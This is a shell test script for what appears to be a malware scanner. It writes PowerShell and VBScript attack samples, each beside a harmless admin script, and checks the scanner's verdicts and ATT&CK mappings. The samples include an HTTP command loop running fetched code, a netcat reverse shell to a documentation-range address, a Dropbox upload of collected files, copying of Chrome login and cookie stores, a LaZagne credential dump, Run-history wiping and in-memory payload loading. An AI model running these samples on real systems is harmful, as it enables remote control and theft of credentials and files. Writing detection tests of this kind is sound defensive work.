#!/bin/sh
# PowerShell and Windows Script Host techniques of keystroke-injector payloads, HTTP reverse
# shells and WSH stagers (ps7): the Run dialog's history wiped, a command loop over HTTP, files
# uploaded to a web service, a browser's stores collected, a loot folder on a removable drive, a
# decoded program's Main run in-process, RC4-decrypted WSH code run, netcat given cmd.exe by
# WSH; each beside the admin script that does the harmless half (reads the key, polls without
# running, posts a message, copies a document, decrypts in a web bundle), which stays clean.
# Hungarian-notation names of an admin VBScript are not a generator's. Addresses are from the
# documentation ranges; nothing here is run.
. "$AIRLOCK_SRC/tests/lib.sh"
t=$TEST_TMPDIR/s
mkdir -p "$t"

cat >"$t/mru-wipe.ps1" <<'EOF'
$loot = "$env:TEMP\out.txt"
Get-ChildItem $env:USERPROFILE\Documents | Out-File $loot
Remove-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU' -Name '*' -ErrorAction SilentlyContinue
EOF
cat >"$t/mru-read.ps1" <<'EOF'
$mru = Get-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU'
$mru.MRUList | Out-File "$env:TEMP\mru-report.txt"
EOF
cat >"$t/http-loop.ps1" <<'EOF'
$u = 'http://198.51.100.7:8080'
while ($true) {
    $c = (Invoke-WebRequest -UseBasicParsing -Uri "$u/next").Content
    if ($c -ne 'None') {
        $r = iex $c 2>&1 | Out-String
        Invoke-WebRequest -UseBasicParsing -Uri "$u/out" -Method POST -Body $r | Out-Null
    }
    Start-Sleep 2
}
EOF
cat >"$t/http-poll.ps1" <<'EOF'
while ($true) {
    $s = (Invoke-WebRequest -UseBasicParsing -Uri 'https://status.example.com/health').Content
    Invoke-WebRequest -UseBasicParsing -Uri 'https://status.example.com/report' -Method POST -Body $s | Out-Null
    Start-Sleep 60
}
EOF
cat >"$t/dropbox.ps1" <<'EOF'
$f = "$env:TEMP\collected.zip"
$arg = '{ "path": "/x/collected.zip", "mode": "add", "autorename": true, "mute": false }'
$h = @{ "Authorization" = "Bearer $token"; "Dropbox-API-Arg" = $arg; "Content-Type" = 'application/octet-stream' }
Invoke-RestMethod -Uri https://content.dropboxapi.com/2/files/upload -Method Post -InFile $f -Headers $h
EOF
cat >"$t/discord-notify.ps1" <<'EOF'
$hook = 'https://discord.com/api/webhooks/000/xyz'
$body = @{ content = "Backup of $env:COMPUTERNAME finished" } | ConvertTo-Json
Invoke-RestMethod -Uri $hook -Method Post -Body $body -ContentType 'application/json'
EOF
cat >"$t/hook-curl.ps1" <<'EOF'
$hookUrl = $args[0]
Get-NetIPConfiguration | Out-String | Out-File "$env:TEMP\n.txt"
curl.exe -F "file1=@$env:TEMP\n.txt" $hookUrl
EOF
cat >"$t/lazagne.ps1" <<'EOF'
$dir = "$env:TEMP\t"
& "$dir\lazagne.exe" all > "$dir\output.txt"
EOF
cat >"$t/browser-stores.ps1" <<'EOF'
$d = "$env:TEMP\b"
New-Item -ItemType Directory -Force -Path $d | Out-Null
Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data" "$d\ld"
Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Network\Cookies" "$d\ck"
Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State" "$d\ls"
EOF
cat >"$t/loot.ps1" <<'EOF'
$drive = (Get-WmiObject Win32_Volume -Filter "Label='USBSTICK'").DriveLetter
Get-ChildItem "$env:USERPROFILE\Documents" -Recurse -Include *.pdf | Copy-Item -Destination "$drive\loot\"
EOF
cat >"$t/backup.ps1" <<'EOF'
$drive = (Get-WmiObject Win32_Volume -Filter "Label='BACKUP'").DriveLetter
Copy-Item "$env:USERPROFILE\Documents\report.docx" -Destination "$drive\backup\"
EOF
cat >"$t/entrypoint.ps1" <<'EOF'
function Invoke-Tool {
    $bytes = [System.Convert]::FromBase64String($blob)
    $asm = [System.Reflection.Assembly]::Load([byte[]]$bytes)
    $asm.EntryPoint.Invoke($null, @(,[string[]]$args))
}
EOF
cat >"$t/rc4-run.vbs" <<'EOF'
Function Dec(b, key)
    Dim s(256), i, j, t, x, y, out
    For i = 0 To 255
        s(i) = i
    Next
    j = 0
    For i = 0 To 255
        j = (j + s(i) + Asc(Mid(key, (i Mod Len(key)) + 1, 1))) Mod 256
        t = s(i): s(i) = s(j): s(j) = t
    Next
    x = 0: y = 0
    For i = 1 To Len(b)
        x = (x + 1) Mod 256
        y = (y + s(x)) Mod 256
        t = s(x): s(x) = s(y): s(y) = t
        out = out & Chr(s((s(x) + s(y)) Mod 256) Xor Asc(Mid(b, i, 1)))
    Next
    Dec = out
End Function
Execute Dec(payload, "k3y")
EOF
cat >"$t/rc4-bundle.js" <<'EOF'
function rc4(key, str) {
    var s = [], j = 0, x, res = '';
    for (var i = 0; i < 256; i++) s[i] = i;
    for (i = 0; i < 256; i++) {
        j = (j + s[i] + key.charCodeAt(i % key.length)) % 256;
        x = s[i]; s[i] = s[j]; s[j] = x;
    }
    return res;
}
function load(id) { return eval(modules[id]); }
EOF
cat >"$t/netcat.vbs" <<'EOF'
Set sh = WScript.CreateObject("WScript.Shell")
strNetCat = sh.ExpandEnvironmentStrings("%TEMP%") & "\nc.exe"
sh.Run strNetCat & " -nv 198.51.100.7 4444 -e cmd.exe", 0, False
EOF
cat >"$t/ad-site.vbs" <<'EOF'
' Renames an Active Directory site.
strOldSiteRDN = "cn=Default-First-Site-Name"
strNewSiteRDN = "cn=Branch-Office"
Set objRootDSE = GetObject("LDAP://RootDSE")
strConfigurationNC = objRootDSE.Get("configurationNamingContext")
strSitesContainer = "LDAP://cn=Sites," & strConfigurationNC
strOldSitePath = "LDAP://" & strOldSiteRDN & ",cn=Sites," & strConfigurationNC
Set objSitesContainer = GetObject(strSitesContainer)
objSitesContainer.MoveHere strOldSitePath, strNewSiteRDN
Set objShell = WScript.CreateObject("WScript.Shell")
objShell.LogEvent 0, "Site renamed from " & strOldSiteRDN & " to " & strNewSiteRDN
EOF

"$AIRLOCK" analyze --json --no-cache "$t" >"$t.json" 2>"$t.err"
expect_eq "analyze-exit-1" 1 $?
python3 - "$t.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
def walk(n):
    yield n
    for c in n.get("children", []):
        yield from walk(c)
files = {n["name"]: n for top in r["files"] for n in walk(top) if n["type"] != "directory"}
def rules(n):
    return sorted(set(f["rule"] for m in walk(n) for f in m["findings"]))
def ids(n):
    return set(a for m in walk(n) for f in m["findings"] for a in f["attack"])
want = {
    "mru-wipe.ps1": ("powershell_command_history_wipe", "T1070.003"),
    "http-loop.ps1": ("powershell_http_command_loop", "T1059.001"),
    "dropbox.ps1": ("powershell_web_service_file_upload", "T1567.002"),
    "browser-stores.ps1": ("powershell_browser_store_collection", "T1555.003"),
    "hook-curl.ps1": ("powershell_web_service_file_upload", "T1567.002"),
    "lazagne.ps1": ("credential_dumping", "T1555"),
    "loot.ps1": ("powershell_removable_drive_loot", "T1052.001"),
    "entrypoint.ps1": ("powershell_assembly_entrypoint_invoke", "T1620"),
    "rc4-run.vbs": ("wsh_rc4_decrypted_code", "T1059.005"),
    "netcat.vbs": ("wsh_netcat_shell", "T1059.005"),
}
for name, (rule, tid) in sorted(want.items()):
    n = files.get(name)
    if n is None:
        print("FAIL: %s: not in the report" % name)
    elif rule in rules(n) and tid in ids(n) and n["verdict"] != "clean":
        print("PASS: %s-%s" % (name, rule))
    else:
        print("FAIL: %s-%s: %s, rules %s" % (name, rule, n["verdict"], ",".join(rules(n))))
for name in ("mru-read.ps1", "http-poll.ps1", "discord-notify.ps1", "backup.ps1", "ad-site.vbs",
             "rc4-bundle.js"):
    n = files.get(name)
    if n is None:
        print("FAIL: %s: not in the report" % name)
    elif n["verdict"] == "clean":
        print("PASS: %s-clean" % name)
    else:
        print("FAIL: %s-clean: %s (%s)" % (name, n["verdict"], ",".join(rules(n))))
PY
